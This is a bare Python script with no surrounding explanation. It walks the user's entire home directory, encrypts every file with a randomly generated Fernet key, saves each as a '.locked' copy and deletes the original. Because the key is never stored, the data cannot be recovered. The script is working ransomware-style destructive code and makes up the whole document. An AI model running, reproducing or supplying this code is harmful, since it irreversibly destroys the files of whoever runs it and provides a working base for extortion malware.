import os

from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(box.encrypt(data))
        os.remove(path)
